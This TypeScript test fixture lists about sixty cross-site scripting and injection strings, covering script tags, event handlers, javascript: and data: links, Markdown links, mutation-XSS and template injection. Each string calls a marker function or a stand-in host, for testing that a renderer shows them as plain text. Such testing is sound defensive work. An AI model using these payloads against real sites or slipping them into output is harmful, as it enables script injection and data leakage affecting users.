/**
 * Texts that try to become markup or script. Each calls `pwned(n)` or asks another host for
 * something if it ever does; rendered as the text it is, it does neither.
 */
const ELSEWHERE = 'https://elsewhere.example';

const PATTERNS: string[] = [
  // Script elements, whole, broken, nested and in odd cases.
  '<script>pwned(0)</script>',
  '<ScRiPt >pwned(0)</sCrIpT>',
  '<script src=//elsewhere.example/x.js></script>',
  '<scr<script>ipt>pwned(0)</scr</script>ipt>',
  '"><script>pwned(0)</script>',
  "';pwned(0);//",
  '</title><script>pwned(0)</script>',
  '</textarea><script>pwned(0)</script>',
  '</style><script>pwned(0)</script>',
  '--><script>pwned(0)</script>',
  ']]><script>pwned(0)</script>',
  '<script type="module">import("https://elsewhere.example/x.js")</script>',
  // Handlers on elements that fire without anybody touching them.
  '<img src=x onerror=pwned(0)>',
  '<img src="https://elsewhere.example/pixel.gif">',
  '<IMG """><img src=x onerror="pwned(0)">',
  '<svg onload=pwned(0)>',
  '<svg><script>pwned(0)</script></svg>',
  '<svg><animate onbegin=pwned(0) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:pwned(0)"><text y=20>click</text></a></svg>',
  '<body onload=pwned(0)>',
  '<video src=x onerror=pwned(0)></video>',
  '<audio src onloadstart=pwned(0)>',
  '<details open ontoggle=pwned(0)>x</details>',
  '<input autofocus onfocus=pwned(0)>',
  '<select autofocus onfocus=pwned(0)></select>',
  '<marquee onstart=pwned(0)>x</marquee>',
  '<div style="animation:x 1s" onanimationstart=pwned(0)>x</div>',
  '<a href="#" onmouseover=pwned(0)>x</a>',
  // Documents within the document.
  '<iframe src="javascript:pwned(0)"></iframe>',
  '<iframe srcdoc="<script>parent.pwned(0)</script>"></iframe>',
  '<object data="javascript:pwned(0)"></object>',
  '<embed src="https://elsewhere.example/x.swf">',
  '<frameset onload=pwned(0)>',
  // Elements that steer the page or its style.
  '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">',
  '<base href="https://elsewhere.example/">',
  '<link rel="stylesheet" href="https://elsewhere.example/x.css">',
  '<style>@import "https://elsewhere.example/x.css";</style>',
  '<style>*{background:url(https://elsewhere.example/leak)}</style>',
  '<form action="https://elsewhere.example/"><button>send</button></form>',
  '<form id=x></form><button form=x formaction="javascript:pwned(0)">x</button>',
  // What changes its meaning when a parser cleans it.
  '<noscript><p title="</noscript><img src=x onerror=pwned(0)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned(0)&gt;">',
  '<template><img src=x onerror=pwned(0)></template>',
  '<xss contenteditable autofocus onfocus=pwned(0) id=x tabindex=1>',
  '&lt;img src=x onerror=pwned(0)&gt;',
  '&#60;script&#62;pwned(0)&#60;/script&#62;',
  '\\u003cimg src=x onerror=pwned(0)\\u003e',
  // Links and pictures of Markdown.
  '[click me](javascript:pwned(0))',
  '[click me](JaVaScRiPt:pwned(0))',
  '[click me](java\tscript:pwned(0))',
  '[click me](&#106;avascript:pwned(0))',
  '[click me](data:text/html;base64,PHNjcmlwdD5wd25lZCgwKTwvc2NyaXB0Pg==)',
  '[click me](vbscript:pwned(0))',
  '[a](https://ok.example" onmouseover="pwned(0))',
  '<javascript:pwned(0)>',
  `![picture](${ELSEWHERE}/pixel.gif)`,
  '![picture](x" onerror="pwned(0))',
  '[ref]: javascript:pwned(0)\n\n[click me][ref]',
  // Templates, code fences and direction marks.
  '{{constructor.constructor("pwned(0)")()}} ${pwned(0)} #{pwned(0)}',
  '```html\n<img src=x onerror=pwned(0)>\n```\n`</code><img src=x onerror=pwned(0)>`',
  '\u202e<img src=x onerror=pwned(0)>\u2028<svg onload=pwned(0)>\u0000',
];

/** Every text with a number of its own. */
export const PAYLOADS = PATTERNS.map((pattern, i) => pattern.replaceAll('pwned(0)', `pwned(${i + 1})`));
